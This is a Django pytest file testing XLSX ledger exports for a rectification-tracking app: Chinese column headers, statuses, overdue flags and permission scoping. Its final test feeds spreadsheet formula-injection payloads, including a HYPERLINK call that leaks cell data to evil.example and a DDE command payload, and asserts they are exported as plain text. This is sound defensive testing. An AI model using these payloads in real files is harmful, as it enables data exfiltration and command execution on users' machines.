from datetime import date
from io import BytesIO

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from rectification.actions import (
    do_explain_rectification_item,
    do_mark_rectification_done,
    do_verify_rectification_item,
)
from rectification.documents import LEDGER_COLUMNS
from rectification.tests.conftest import access_of

pytestmark = pytest.mark.django_db
HEADER = [
    "单位",
    "来源",
    "存在问题",
    "整改措施",
    "责任人",
    "整改目标",
    "整改时限",
    "状态",
    "说明",
    "验收人",
    "验收时间",
    "是否逾期",
]


def _rows(response) -> list[list]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@time_machine.travel("2026-07-15 10:00 +0800", tick=False)
def test_the_ledger_of_a_target_exports_to_xlsx(cast, open_item, login, english):
    open_item(
        deadline=date(2026, 7, 1), problem="逾期问题", plan="措施甲", responsible_person="张伟"
    )
    explained = open_item(deadline=date(2026, 8, 1), problem="难以整改的问题")
    do_explain_rectification_item(
        access_of(cast, cast.liaison), explained, explanation="需省级统筹", acting_user=cast.liaison
    )
    do_verify_rectification_item(
        access_of(cast, cast.organizer), explained, accept=True, acting_user=cast.organizer
    )
    open_item("county-b", problem="乙县的问题")

    rows = _rows(
        login(cast.liaison).get(reverse("rectification:export_target", args=["c-2026", "county-a"]))
    )
    assert rows[0] == HEADER == [name for name, _width in LEDGER_COLUMNS]
    assert len(rows) == 3
    first, second = rows[1], rows[2]
    # the values are Chinese like the header, whatever the language of the page
    assert first[:5] == ["甲县局", "检查发现问题", "逾期问题", "措施甲", "张伟"]
    assert first[6].date() == date(2026, 7, 1)
    assert (first[7], first[11]) == ("待整改", "是")
    assert second[2] == "难以整改的问题" and second[7] == "已作说明"
    assert (
        second[8] == "需省级统筹"
        and second[9] == "Organizer"
        and second[10].startswith("2026-07-15")
    )
    assert second[11] == "否"


@time_machine.travel("2026-07-15 10:00 +0800", tick=False)
def test_the_subtree_export_covers_every_target_the_organizer_reaches(cast, open_item, login):
    open_item("county-a", problem="甲县的问题")
    late = open_item("county-b", problem="乙县的问题", deadline=date(2026, 7, 1))
    do_mark_rectification_done(
        access_of(cast, cast.other_liaison), late, acting_user=cast.other_liaison
    )
    rows = _rows(
        login(cast.organizer).get(reverse("rectification:export_subtree", args=["c-2026", "city"]))
    )
    assert [r[2] for r in rows[1:]] == ["甲县的问题", "乙县的问题"]
    assert rows[2][11] == "逾期完成"


def test_exports_are_scoped_by_permission(cast, open_item, login):
    open_item("county-a", problem="甲县的问题")
    client = login(cast.liaison)
    assert (
        client.get(reverse("rectification:export_subtree", args=["c-2026", "city"])).status_code
        == 403
    )
    assert (
        client.get(reverse("rectification:export_target", args=["c-2026", "county-b"])).status_code
        == 403
    )
    # its own subtree is its own ledger
    rows = _rows(client.get(reverse("rectification:export_subtree", args=["c-2026", "county-a"])))
    assert [r[2] for r in rows[1:]] == ["甲县的问题"]
    assert (
        login(cast.nobody)
        .get(reverse("rectification:export_target", args=["c-2026", "county-a"]))
        .status_code
        == 403
    )


def test_user_text_that_looks_like_a_formula_is_exported_as_text(cast, open_item, login):
    texts = {
        "problem": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
        "plan": "+1+1",
        "responsible_person": "@SUM(A1:A9)",
        "goal": "-2+3",
    }
    item = open_item(**texts)
    explanation = "=cmd|' /C calc'!A0"
    do_explain_rectification_item(
        access_of(cast, cast.liaison), item, explanation=explanation, acting_user=cast.liaison
    )
    response = login(cast.organizer).get(
        reverse("rectification:export_target", args=["c-2026", "county-a"])
    )
    sheet = load_workbook(BytesIO(response.content)).active
    cells = {
        "problem": sheet["C2"],
        "plan": sheet["D2"],
        "responsible_person": sheet["E2"],
        "goal": sheet["F2"],
    }
    for name, cell in cells.items():
        assert (cell.data_type, cell.value) == ("s", texts[name]), name
    assert (sheet["I2"].data_type, sheet["I2"].value) == ("s", explanation)
    # marked as quoted text, so editing the cell in a spreadsheet keeps it text
    assert sheet["C2"].quotePrefix and sheet["I2"].quotePrefix
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
